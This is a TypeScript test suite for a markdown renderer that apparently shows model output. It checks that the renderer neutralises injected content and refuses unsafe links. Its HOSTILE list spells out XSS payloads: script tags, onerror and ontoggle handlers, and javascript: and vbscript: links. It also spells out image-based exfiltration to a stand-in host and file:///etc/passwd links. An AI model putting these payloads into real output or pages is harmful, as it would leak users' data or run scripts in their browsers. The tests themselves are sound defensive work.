import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { splitBlocks } from '../../../src/renderer/markdown/blocks.ts'
import { linkTarget } from '../../../src/renderer/markdown/link-kind.ts'
import { mathPlugins } from '../../../src/renderer/markdown/math-plugin.ts'
import { normaliseMath } from '../../../src/renderer/markdown/math-text.ts'
import { MarkdownBlock } from '../../../src/renderer/markdown/render.tsx'

/** The icons of our own buttons. */
const OWN_ICON = /<svg [^>]*class="lucide lucide-[a-z-]+" aria-hidden="true">.*?<\/svg>/gu

function html(source: string): string {
  const blocks = splitBlocks(normaliseMath(source))
  const page = renderToStaticMarkup(
    <div>
      {blocks.map((block, at) => (
        <MarkdownBlock key={at} text={block} live={false} math={mathPlugins} />
      ))}
    </div>
  )
  return page.replace(OWN_ICON, '')
}

/** Attributes with which a page asks for something, or does something. Text that merely looks like one is between tags, escaped. */
const ASKS = /\s(?:href|src|srcset|action|formaction|poster|data|background|ping|xlink:href|cite|on\w+)\s*=/iu
const TAGS = /<[^>]*>/gu
const FORBIDDEN = /^<\/?(?:img|script|style|iframe|object|embed|link|meta|base|form|video|audio|source|svg|image|use|a)\b/iu

function complaints(source: string): readonly string[] {
  return (html(source).match(TAGS) ?? []).filter(
    (tag) => ASKS.test(tag) || FORBIDDEN.test(tag) || /url\(/iu.test(tag.replace(/data-tip="[^"]*"/u, ''))
  )
}

const HOSTILE: readonly string[] = [
  '![](https://x.test/?q=secret)',
  '![a][b]\n\n[b]: https://x.test/?q=secret "t"',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[![in a link](https://x.test/a.png)](https://x.test/)',
  '<img src="https://x.test/?q=secret" srcset="https://x.test/2 2x">',
  '<svg><image href="https://x.test/"/></svg>',
  '<script>alert(1)</script>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<style>*{background:url(https://x.test/)}</style>',
  '<iframe src="https://x.test/"></iframe>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](file:///etc/passwd)',
  '[x](vbscript:x)',
  '<https://x.test/?q=1>',
  'https://x.test/auto and www.x.test',
  '[^1]: note\n\ntext[^1]',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\includegraphics{https://x.test/a.png}$',
  '$\\htmlData{x=1}{y} \\htmlStyle{background:url(https://x.test/)}{z}$',
  '$$\\url{https://x.test}$$',
  '| ![](https://x.test/) |\n|---|\n| <img src=x onerror=alert(1)> |',
  '```html\n<img src="https://x.test/">\n```',
  '`<img src=x onerror=alert(1)>`',
  '- [ ] <img src=x>',
  '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```'
]

describe('Markdown of a model', () => {
  it.each(HOSTILE)('asks for nothing and does nothing: %s', (source) => {
    expect(complaints(source)).toEqual([])
  })

  it('asks for nothing, however pieces of hostile text are put together', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        '\n\n',
        '\n',
        '> ',
        '- ',
        '1. ',
        '**',
        '`',
        '```\n',
        '$',
        '$$',
        '[',
        '](',
        ')',
        '<',
        '>',
        '|',
        '\\',
        '&lt;',
        '![',
        '\u0000'
      ),
      fc.string({ maxLength: 12 })
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        expect(complaints(pieces.join(''))).toEqual([])
      }),
      { numRuns: 250 }
    )
  })

  it('shows the address of an image as text', () => {
    expect(html('![chart](https://x.test/?q=secret)')).toContain('chart (https://x.test/?q=secret)')
    expect(html('![][r]\n\n[r]: https://x.test/ref.png')).toContain('https://x.test/ref.png')
  })

  it('shows raw HTML as the text that it is', () => {
    expect(html('a <b>bold</b> word')).toContain('&lt;b&gt;')
  })

  it('sets formulas as MathML without style attributes', () => {
    const set = html('$e^{i\\pi}$')
    expect(set).toContain('<math')
    expect(set).not.toContain('style=')
  })

  it('keeps the language and the exact source of a code block', () => {
    const block = html('```ts\nconst a = 1 < 2\n\n  indented\n```')
    expect(block).toContain('ts')
    expect(block).toContain('const a = 1 &lt; 2\n\n  indented</code>')
  })
})

describe('a click on a link', () => {
  it.each([
    ['https://example.com/a', 'a', 'open'],
    ['mailto:a@b.c', 'a', 'open'],
    ['http://example.com', 'a', 'refused'],
    ['javascript:alert(1)', 'a', 'refused'],
    ['file:///etc/passwd', 'a', 'refused'],
    ['vscode://x', 'a', 'refused'],
    ['//x.test', 'a', 'refused'],
    ['/relative', 'a', 'refused'],
    ['', 'a', 'refused'],
    ['#note', 'a', 'inside'],
    ['http://www.example.com', 'www.example.com', 'open'],
    ['http://www.example.com', 'click', 'refused']
  ])('%s written as %s is %s', (href, text, kind) => {
    expect(linkTarget(href, text).kind).toBe(kind)
  })
})
